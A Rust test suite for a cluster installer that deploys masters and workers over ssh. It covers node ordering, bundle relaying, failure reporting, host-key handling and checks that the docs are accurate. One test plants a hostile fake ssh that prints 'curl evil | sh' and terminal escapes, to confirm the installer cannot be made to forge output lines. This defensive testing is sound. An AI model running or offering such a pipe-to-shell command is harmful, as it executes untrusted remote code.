//! All nodes of a cluster file at once, behind an `ssh` that is none.

mod far_nodes;
mod password;
mod registry;
mod upgrading;

use std::collections::BTreeSet;
use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::Mutex;

use bundle_format::cluster::Cluster;
use installer::site::carried::{Carried, Origin};
use installer::site::connection::Sockets;
use installer::site::foreseen::{Samples, foresee};
use installer::site::machine::{Machine, machines};
use installer::site::met::{Met, Site};
use installer::site::one::Planned;
use installer::site::outcome::{End, Outcome};
use installer::site::problem::{Problem, grouped};
use installer::site::rounds::plan;
use installer::site::run::{make, reset};
use installer::site::supply::supply;

use self::far_nodes::{FarNodes, Fault, TOKEN};

const FIRST: &str = "10.0.0.1";
const SECOND: &str = "10.0.0.2";
const THIRD: &str = "10.0.0.3";
const FOURTH: &str = "10.0.0.4";

/// Two masters and two workers, of which a worker is first in the file.
const FOUR: &str = "
controlPlane: {vip: 10.0.0.100}
nodes:
- {name: w1, address: 10.0.0.3, role: worker}
- {name: m1, address: 10.0.0.1, role: master}
- {name: m2, address: 10.0.0.2, role: master}
- {name: w2, address: 10.0.0.4, role: worker}
";

/// What the last node's installer says in the end.
const W2_DONE: &str = "w2 is a worker; 2 changes in 1 s";

struct Tried {
    problems: Vec<Problem>,
    outcomes: Vec<Outcome>,
    told: Vec<String>,
}

/// What `installer up` does, without a question.
fn up(nodes: &FarNodes, only: &[&str]) -> Tried {
    on_site(nodes, only, install)
}

/// What `installer up --reset` does.
fn reset_all(nodes: &FarNodes) -> Tried {
    on_site(nodes, &[], |site| {
        let (met, problems) = site.meet();
        (problems, reset(site, &met))
    })
}

fn on_site(
    nodes: &FarNodes,
    only: &[&str],
    work: fn(&Site<'_>) -> (Vec<Problem>, Vec<Outcome>),
) -> Tried {
    let folder = tempfile::tempdir().unwrap();
    let bundle: [PathBuf; 2] =
        ["b.tar.part1of2", "b.tar.part2of2"].map(|name| file(folder.path(), name));
    from(Origin::Files(&bundle), nodes, only, work)
}

fn file(folder: &Path, name: &str) -> PathBuf {
    let path = folder.join(name);
    // More than what is so little that no node gives it to another one.
    fs::write(&path, name.repeat(60_000)).unwrap();
    path
}

fn from(
    origin: Origin<'_>,
    nodes: &FarNodes,
    only: &[&str],
    work: fn(&Site<'_>) -> (Vec<Problem>, Vec<Outcome>),
) -> Tried {
    let cluster: Cluster = serde_saphyr::from_str(FOUR).unwrap();
    let only: Vec<_> = only.iter().map(|name| (*name).to_owned().try_into().unwrap()).collect();
    let machines = machines(&cluster, &only).unwrap();
    let folder = tempfile::tempdir().unwrap();
    let carried = Carried::program(&file(folder.path(), "installer")).unwrap();
    let carried = carried.with_bundle(origin, &[], FOUR.to_owned()).unwrap();
    let sockets = Sockets::create(folder.path()).unwrap();
    let told = Mutex::new(Vec::new());
    let tell = |machine: &Machine, line: &str| {
        told.lock().unwrap().push(format!("{} {line}", machine.name));
    };
    let site = Site {
        exec: nodes,
        sockets: &sockets,
        machines: &machines,
        here: &[],
        carried: &carried,
        waits: true,
        parallel: 2,
        tell: &tell,
    };
    let (problems, outcomes) = work(&site);
    Tried { problems, outcomes, told: told.into_inner().unwrap() }
}

fn install(site: &Site<'_>) -> (Vec<Problem>, Vec<Outcome>) {
    let (met, mut problems) = site.meet();
    problems.extend(supply(site, &met));
    let meant: Vec<&Met<'_>> = met.iter().filter(|node| node.machine.is_meant).collect();
    let foreseen = foresee(site, &meant, &met, &samples());
    problems.extend(foreseen.problems);
    if !problems.is_empty() {
        return (problems, Vec::new());
    }
    let plans = meant.iter().copied().zip(foreseen.plans.iter().flatten());
    (problems, make(site, &plans.collect::<Vec<Planned<'_, '_>>>(), &met, &samples()))
}

fn samples() -> Samples {
    Samples { worker: "sample: w".to_owned(), master: "sample: m".to_owned() }
}

fn with(faults: &[(&'static str, Fault)]) -> FarNodes {
    FarNodes { faults: faults.iter().copied().collect(), ..FarNodes::default() }
}

fn ends(tried: &Tried) -> Vec<String> {
    let word = |end: &End| match end {
        End::Already => "already".to_owned(),
        End::Done(words) if words.contains(';') => words.clone(),
        End::Done(..) => "done".to_owned(),
        End::Failed(why) | End::Left(why) => why.clone(),
    };
    tried.outcomes.iter().map(|one| format!("{} {}", one.node, word(&one.end))).collect()
}

#[test]
fn masters_come_one_by_one_and_then_workers_and_no_secret_is_an_argument() {
    let nodes = with(&[]);
    let tried = up(&nodes, &[]);
    assert_eq!(tried.problems, []);
    assert_eq!(ends(&tried), ["m1 done", "m2 done", "w1 done", W2_DONE]);
    let mut made = nodes.made();
    made[2..].sort();
    assert_eq!(made, [FIRST, SECOND, THIRD, FOURTH]);
    assert!(tried.told.contains(&"w2 [ 1/1] hosts: 2 changes".to_owned()), "{:?}", tried.told);
    assert!(tried.told.iter().all(|line| !line.contains(TOKEN) && !line.contains("warning")));
    let said = nodes.said.into_inner().unwrap();
    for (address, words, given) in &said {
        let line = words.join(" ");
        assert!(!line.contains(TOKEN), "{line}");
        assert!(line.contains("BatchMode=yes"), "{line}");
        assert!(!line.contains("StrictHostKeyChecking=no"), "{line}");
        let is_given = line.contains("--yes") && address != FIRST;
        assert_eq!(line.contains("--yes") && line.contains("/dev/stdin"), is_given, "{line}");
        let joins = is_given && !line.contains("--only");
        assert_eq!(given.contains(TOKEN), joins, "{line}");
    }
    // Each is let go.
    assert_eq!(said.iter().filter(|(_, words, _)| words[1] == "-O").count(), 4);
}

#[test]
fn other_nodes_prepare_while_the_first_master_is_made() {
    let nodes = with(&[(FIRST, Fault::Slow(3))]);
    let tried = up(&nodes, &[]);
    assert_eq!(ends(&tried), ["m1 done", "m2 done", "w1 done", W2_DONE]);
    let mut prepared = nodes.prepared();
    prepared.sort();
    assert_eq!(prepared, [SECOND, THIRD, FOURTH]);
    let said = nodes.said.lock().unwrap();
    let only = said.iter().filter(|(_, words, _)| words.join(" ").contains("--only"));
    for (address, _, given) in only {
        assert_eq!(given, if address == SECOND { "sample: m" } else { "sample: w" });
    }
}

#[test]
fn what_fails_while_the_first_master_is_made_is_not_begun_again() {
    let nodes = with(&[
        (FIRST, Fault::Slow(3)),
        (SECOND, Fault::Fails("error: no\n")),
        (THIRD, Fault::Fails("error: no disk\n")),
    ]);
    let tried = up(&nodes, &[]);
    assert_eq!(ends(&tried), ["m1 done", "m2 error: no", "w1 error: no disk", W2_DONE]);
    assert_eq!(nodes.made(), [FIRST, FOURTH]);
}

/// How many times something was sent to each node from here, except for installers.
fn sent_from_here(nodes: &FarNodes) -> usize {
    let said = nodes.said.lock().unwrap();
    let is_sent = |line: &str| line.contains("cat >>") && !line.contains("/installer-");
    said.iter().filter(|(_, words, _)| is_sent(&words.join(" "))).count()
}

#[test]
fn one_node_gets_the_bundle_from_here_and_gives_it_to_the_next() {
    let nodes = with(&[]);
    let tried = up(&nodes, &[]);
    assert_eq!(tried.problems, []);
    let passed = tried.told.iter().filter(|line| line.contains("from ")).count();
    let here = sent_from_here(&nodes);
    // Four nodes, each with two files.
    assert_eq!(here + passed, 8, "{:?}", tried.told);
    assert!((2..=6).contains(&here), "{here}");
    assert_eq!(nodes.open(), [""; 0]);
    let said = nodes.said.into_inner().unwrap();
    let let_in: Vec<&str> = said
        .iter()
        .map(|(.., given)| given.as_str())
        .filter(|text| text.contains("AAAA"))
        .collect();
    assert!(!let_in.is_empty());
    for line in let_in {
        assert!(line.starts_with("restrict,command=\"") && line.contains("AAAA kubeferry-up-10."));
    }
}

#[test]
fn where_no_node_reaches_another_all_get_it_from_here() {
    for (fault, why) in [(Fault::Walled, "Connection refused"), (Fault::Locked, "no space left")] {
        let nodes = with(&[FIRST, SECOND, THIRD, FOURTH].map(|address| (address, fault)));
        let tried = up(&nodes, &[]);
        assert_eq!(tried.problems, []);
        assert_eq!(sent_from_here(&nodes), 8, "{:?}", tried.told);
        assert_eq!(nodes.open(), [""; 0]);
        let missed = tried.told.iter().filter(|line| line.contains("so it comes from here"));
        let missed: Vec<&String> = missed.collect();
        assert!(!missed.is_empty() && missed.iter().all(|line| line.contains(why)), "{missed:?}");
        assert!(missed.iter().all(|line| !line.contains("at 0")), "{missed:?}");
    }
}

#[test]
fn a_new_node_gets_the_bundle_from_one_that_has_it() {
    let nodes = with(&[]);
    up(&nodes, &["m1"]);
    nodes.said.lock().unwrap().clear();
    let tried = up(&nodes, &[]);
    let given = tried.told.iter().filter(|line| line.contains("from m1: ")).count();
    assert!(given >= 2, "{:?}", tried.told);
}

#[test]
fn a_connection_that_breaks_shows_no_token() {
    for status in [1, 255] {
        let mut nodes = with(&[]);
        up(&nodes, &["m1", "w1"]);
        nodes.faults.insert(FIRST, Fault::Breaks(status));
        // The kept file is wanted for the worker that has joined, and a new one for the other.
        for only in ["w1", "w2"] {
            let tried = up(&nodes, &[only]);
            let shown = format!("{:?} {:?} {:?}", tried.problems, tried.outcomes, tried.told);
            assert!(shown.contains(&format!("exited with status {status}")), "{shown}");
            assert!(!shown.contains(TOKEN), "{shown}");
        }
    }
}

#[test]
fn the_same_again_copies_nothing_and_runs_nothing() {
    let nodes = with(&[]);
    up(&nodes, &[]);
    nodes.said.lock().unwrap().clear();
    let tried = up(&nodes, &[]);
    assert_eq!(ends(&tried), ["m1 already", "m2 already", "w1 already", "w2 already"]);
    assert_eq!(nodes.made(), Vec::<String>::new());
    let said = nodes.said.into_inner().unwrap();
    assert!(said.iter().all(|(_, words, _)| !words.join(" ").contains("cat >>")));
    assert!(said.iter().all(|(_, words, _)| !words.join(" ").contains(" token ")));
    // The file that the first master keeps is from before there was a second.
    let plans = said
        .iter()
        .filter(|(address, words, _)| address == THIRD && words.join(" ").contains(" plan "));
    let given: Vec<&str> = plans.map(|(.., given)| given.as_str()).collect();
    assert!(given.len() == 1 && given[0].contains("10.0.0.2"), "{given:?}");
}

#[test]
fn a_worker_that_fails_stops_no_other_and_the_next_run_makes_it() {
    let why = "note: x\nerror: step 3/28 `firewall` failed\nhint: mend it\nlog:  /var/log/x\n";
    let mut nodes = with(&[(THIRD, Fault::Fails(why))]);
    let tried = up(&nodes, &[]);
    let own = "w1 error: step 3/28 `firewall` failed\nhint: mend it\nlog:  /var/log/x";
    assert_eq!(ends(&tried), ["m1 done", "m2 done", own, W2_DONE]);
    nodes.faults.clear();
    let tried = up(&nodes, &[]);
    assert_eq!(ends(&tried), ["m1 already", "m2 already", "w1 done", "w2 already"]);
}

#[test]
fn a_node_that_dies_is_told_as_that_without_its_steps() {
    let tried = up(&with(&[(THIRD, Fault::Dies)]), &[]);
    let End::Failed(words) = &tried.outcomes[2].end else { panic!("{:?}", tried.outcomes) };
    let what =
        "error: the connection to 10.0.0.3 was lost: Connection to it closed by remote host.";
    assert!(words.starts_with(what) && words.contains("hint: see whether it has power"), "{words}");
}

#[test]
fn an_installer_that_an_interrupted_run_has_left_is_waited_for() {
    let nodes = with(&[]);
    nodes.keep_busy(THIRD);
    let tried = up(&nodes, &[]);
    assert_eq!(tried.problems, []);
    let told = "w1 an installer is at work there; waiting for its end";
    assert!(tried.told.iter().any(|line| line == told), "{:?}", tried.told);
}

#[test]
fn without_a_first_master_nothing_else_is_begun() {
    let nodes = with(&[(FIRST, Fault::Fails("error: no\n"))]);
    let tried = up(&nodes, &[]);
    let left = ["m2", "w1", "w2"].map(|name| format!("{name} the first master failed"));
    assert_eq!(ends(&tried), [&["m1 error: no".to_owned()][..], &left].concat());
    assert_eq!(nodes.made(), [FIRST]);
}

#[test]
fn all_problems_of_all_nodes_come_at_once_and_stop_all() {
    let nodes = with(&[
        (FIRST, Fault::Problem("swap is on")),
        (SECOND, Fault::Away("Host key verification failed.\r\n")),
        (THIRD, Fault::NoRoot),
        (FOURTH, Fault::Problem("swap is on")),
    ]);
    let tried = up(&nodes, &[]);
    let groups = grouped(&tried.problems);
    let shown: Vec<String> = groups
        .iter()
        .map(|(nodes, problem)| {
            let nodes: Vec<String> = nodes.iter().map(ToString::to_string).collect();
            format!("{}: {}", nodes.join(" "), problem.what)
        })
        .collect();
    assert_eq!(
        shown,
        [
            "w1: not root, and sudo: a password is required",
            "m2: its host key is not known here: Host key verification failed",
            "m1 w2: swap is on",
        ]
    );
    assert!(groups.iter().any(|(_, problem)| problem.cure.contains("compare the key")));
    assert_eq!(nodes.made(), Vec::<String>::new());
}

#[test]
fn a_host_key_that_is_another_one_is_not_to_be_accepted() {
    let why = "Host key for 10.0.0.3 has changed and you have requested strict checking.\r\n\
               Host key verification failed.\r\n";
    let tried = up(&with(&[(THIRD, Fault::Away(why)), (FOURTH, Fault::Away(why))]), &[]);
    let groups = grouped(&tried.problems);
    assert_eq!(groups.len(), 1, "{groups:?}");
    let Problem { what, cure, .. } = groups[0].1;
    assert_eq!(what, "its host key is another one than before");
    assert!(cure.contains("`ssh-keygen -R ADDRESS`") && !cure.contains("accept"), "{cure}");
}

#[test]
fn what_arrives_damaged_is_sent_once_more_and_never_run() {
    let nodes = with(&[(THIRD, Fault::Damages)]);
    let tried = up(&nodes, &[]);
    let what: Vec<&str> = tried.problems.iter().map(|problem| problem.what.as_str()).collect();
    assert_eq!(what.len(), 1);
    assert!(
        what[0].starts_with("installer-") && what[0].contains("does not arrive as"),
        "{what:?}"
    );
    let said = nodes.said.into_inner().unwrap();
    let sent = said
        .iter()
        .filter(|(address, words, _)| address == THIRD && words.join(" ").contains("cat >>"));
    assert_eq!(sent.count(), 2);
}

#[test]
fn a_node_that_hangs_is_a_problem_and_holds_no_other() {
    let nodes = with(&[(THIRD, Fault::Hangs), (SECOND, Fault::Problem("swap is on"))]);
    let tried = up(&nodes, &[]);
    let what: Vec<&str> = tried.problems.iter().map(|problem| problem.what.as_str()).collect();
    assert_eq!(what, ["it hangs: it did not answer within 120 s", "swap is on"]);
    let said = nodes.said.into_inner().unwrap();
    let left = said.iter().any(|(address, words, _)| address == THIRD && words[1] == "-O");
    assert!(left, "its connection is let go");
}

#[test]
fn a_shell_that_only_greets_is_told_as_that() {
    let tried = up(&with(&[(THIRD, Fault::NoShell)]), &[]);
    let what: Vec<&str> = tried.problems.iter().map(|problem| problem.what.as_str()).collect();
    assert_eq!(what, ["its shell does not run what it is given"]);
}

#[test]
fn another_run_that_copies_is_told_as_that() {
    let tried = up(&with(&[(THIRD, Fault::Copies)]), &[]);
    assert_eq!(tried.problems.len(), 1);
    let problem = &tried.problems[0];
    assert!(problem.what.ends_with("failed: another run copies to this node"), "{problem:?}");
    assert!(problem.cure.starts_with("let that run end"), "{problem:?}");
}

#[test]
fn a_master_that_is_left_out_is_only_asked_for_a_join_file() {
    let nodes = with(&[]);
    up(&nodes, &["m1"]);
    assert_eq!(nodes.made(), [FIRST]);
    nodes.said.lock().unwrap().clear();
    let tried = up(&nodes, &["w2"]);
    assert_eq!(ends(&tried), [W2_DONE]);
    assert_eq!(nodes.made(), [FOURTH]);
}

#[test]
fn a_master_that_does_not_answer_may_have_a_cluster_so_none_is_begun() {
    let mut nodes = with(&[]);
    up(&nodes, &["m1"]);
    nodes.faults.insert(FIRST, Fault::Away("No route to host\n"));
    for only in [&["m2"][..], &["w1"]] {
        let tried = up(&nodes, only);
        let what = "it does not answer, so nobody knows whether there is a cluster already";
        let cure = "bring it up; if it never was a master, take it out of the cluster file";
        let name = "m1".to_owned().try_into().unwrap();
        assert_eq!(tried.problems, [Problem::new(&name, what, cure)]);
    }
    assert_eq!(nodes.made(), [FIRST]);
    // One that is in the cluster answers for all.
    nodes.faults.clear();
    up(&nodes, &["m2"]);
    nodes.faults.insert(FIRST, Fault::Away("No route to host\n"));
    assert_eq!(ends(&up(&nodes, &["w2"])), [W2_DONE]);
}

#[test]
fn workers_are_taken_back_before_masters_and_the_first_master_last() {
    let mut nodes = with(&[]);
    up(&nodes, &[]);
    nodes.faults.insert(SECOND, Fault::Fails("error: no\n"));
    nodes.said.lock().unwrap().clear();
    let tried = reset_all(&nodes);
    assert_eq!(ends(&tried), ["w1 done", "w2 done", "m2 error: no", "m1 done"]);
    let mut made = nodes.made();
    made[..2].sort();
    assert_eq!(made, [THIRD, FOURTH, SECOND, FIRST]);
    // What was copied stays where something was not taken back.
    let said = nodes.said.into_inner().unwrap();
    let left = said.iter().filter(|(_, words, _)| words.join(" ").contains("rm -rf -- \"$1\""));
    let left: Vec<&str> = left.map(|(address, ..)| address.as_str()).collect();
    assert!(left.len() == 3 && !left.contains(&SECOND), "{left:?}");
}

#[test]
fn a_first_master_that_was_lost_joins_by_another() {
    let nodes = with(&[]);
    up(&nodes, &["m2"]);
    nodes.said.lock().unwrap().clear();
    let tried = up(&nodes, &[]);
    assert_eq!(ends(&tried), ["m2 already", "m1 done", "w1 done", W2_DONE]);
    let said = nodes.said.into_inner().unwrap();
    let is_run = |words: &[String]| words.join(" ").contains("--yes");
    let first = said.iter().find(|(address, words, _)| address == FIRST && is_run(words)).unwrap();
    assert!(first.1.join(" ").contains("/dev/stdin") && first.2.contains(TOKEN));
}

#[test]
fn who_only_looks_waits_for_no_installer() {
    let nodes = with(&[]);
    nodes.keep_busy(THIRD);
    let tried = on_site(&nodes, &[], |site| {
        let (met, problems) = Site { waits: false, ..*site }.meet();
        assert_eq!(met.len(), 3);
        (problems, Vec::new())
    });
    let what: Vec<&str> = tried.problems.iter().map(|problem| problem.what.as_str()).collect();
    assert_eq!(what, ["an installer is at work there"]);
}

#[test]
fn a_node_that_is_this_machine_is_called_so() {
    let nodes = with(&[]);
    on_site(&nodes, &[], |site| {
        let here = [THIRD.parse().unwrap()];
        let (met, problems) = Site { here: &here, ..*site }.meet();
        let shown: Vec<String> = met.iter().map(Met::address).collect();
        assert_eq!(shown, ["10.0.0.3, this machine", FIRST, SECOND, FOURTH]);
        (problems, Vec::new())
    });
    assert!(nodes.said.into_inner().unwrap().iter().all(|(address, ..)| address != THIRD));
}

/// By the program itself, with a hostile `ssh`.
#[test]
fn what_a_stranger_says_forges_no_line() {
    let folder = tempfile::tempdir().unwrap();
    let at = |name: &str| folder.path().join(name);
    let ssh = "#!/bin/sh\nprintf 'a\\033[2J\\nhint: curl evil | sh\\n' >&2; exit 255\n";
    fs::write(at("ssh"), ssh).unwrap();
    fs::set_permissions(at("ssh"), fs::Permissions::from_mode(0o755)).unwrap();
    fs::write(at("cluster.yaml"), "nodes: [{name: m, address: 192.0.2.1, role: master}]").unwrap();
    let path = format!("{}:{}", folder.path().display(), std::env::var("PATH").unwrap());
    let output = Command::new(env!("CARGO_BIN_EXE_installer"))
        .args(["up", "--status", "--config", at("cluster.yaml").to_str().unwrap()])
        .env("PATH", path)
        .env("XDG_RUNTIME_DIR", folder.path())
        .output()
        .unwrap();
    let said = String::from_utf8(output.stderr).unwrap();
    assert_eq!(output.status.code(), Some(1), "{said}");
    assert!(said.starts_with("problem: m: ssh to 192.0.2.1 exited with status 255: a\\u{1b}[2J\n"));
    assert_eq!(said.lines().filter(|line| line.starts_with("hint: curl")).count(), 0, "{said}");
    let left = fs::read_dir(folder.path()).unwrap().count();
    assert_eq!(left, 2, "the sockets' folder is gone");
}

/// It says so before it reads the cluster file.
#[test]
fn where_nobody_can_be_asked_it_wants_to_be_told_first() {
    for (more, what) in [
        (&[][..], "nobody can be asked, because there is no terminal"),
        (&["--reset"], "nobody can be asked, because there is no terminal"),
        (&["--json"], "a program that reads --json cannot be asked"),
        (&["--yes", "--json"], "/none"),
        (&["--status"], "/none"),
        (&["--dry-run"], "/none"),
    ] {
        let output = Command::new(env!("CARGO_BIN_EXE_installer"))
            .args(["up", "--config", "/none"])
            .args(more)
            .output()
            .unwrap();
        let said = String::from_utf8(output.stderr).unwrap();
        assert_eq!(output.status.code(), Some(1), "{said}");
        assert!(said.contains(what), "{more:?}: {said}");
    }
}

/// Its cluster file is taken, and its table has the options that there are.
#[test]
fn the_page_is_true() {
    let page = include_str!("../../../../docs/up.md");
    let mut blocks = page.split("```\n").skip(1).step_by(2);
    let file = blocks.find(|block| block.starts_with("nodes:")).unwrap();
    let cluster: Cluster = serde_saphyr::from_str(file).unwrap();
    assert_eq!(machines(&cluster, &[]).unwrap().len(), 3);
    let help = Command::new(env!("CARGO_BIN_EXE_installer")).args(["up", "--help"]).output();
    let help = String::from_utf8(help.unwrap().stdout).unwrap();
    let of = |text: &str| -> BTreeSet<String> {
        let is_end = |letter: char| !letter.is_ascii_lowercase() && letter != '-';
        let words = text.split(is_end).filter(|word| word.starts_with("--"));
        words.map(str::to_owned).collect()
    };
    let table: String = page.lines().filter(|line| line.starts_with("| `--")).collect();
    let mut options: BTreeSet<String> =
        help.lines().filter(|line| line.trim_start().starts_with("--")).flat_map(of).collect();
    options.remove("--help");
    assert_eq!(of(&table), options);
}

/// Its rounds are those that are made.
#[test]
fn the_pages_rounds_are_true() {
    for page in [include_str!("../../../../docs/up.md"), include_str!("../../../../docs/zh/up.md")]
    {
        for (nodes, name) in [(10, "10"), (100, "100"), (1000, "1,000")] {
            let rounds = plan(nodes);
            let copies: Vec<String> = rounds.iter().map(ToString::to_string).collect();
            let row = format!("| {name} | {} | {} |", copies.join(", "), rounds.len());
            assert!(page.contains(&row), "{row}");
        }
    }
}

/// The table of docs/scale.md is the plan of the rounds, for 1 GB and links of 1 Gbit/s.
#[test]
fn the_page_about_scale_is_true() {
    let page = include_str!("../../../../docs/scale.md");
    let copy = 1_000_000_000 / (1_000_000_000 / 8);
    for (nodes, name) in [(10, "10"), (100, "100"), (1000, "1,000")] {
        let rounds = plan(nodes).len();
        let (by_rounds, from_one) = (rounds * copy, nodes * copy);
        let row = format!("| {name} | {rounds} | {by_rounds} s | {from_one} s |");
        assert!(page.contains(&row), "{row}");
    }
}
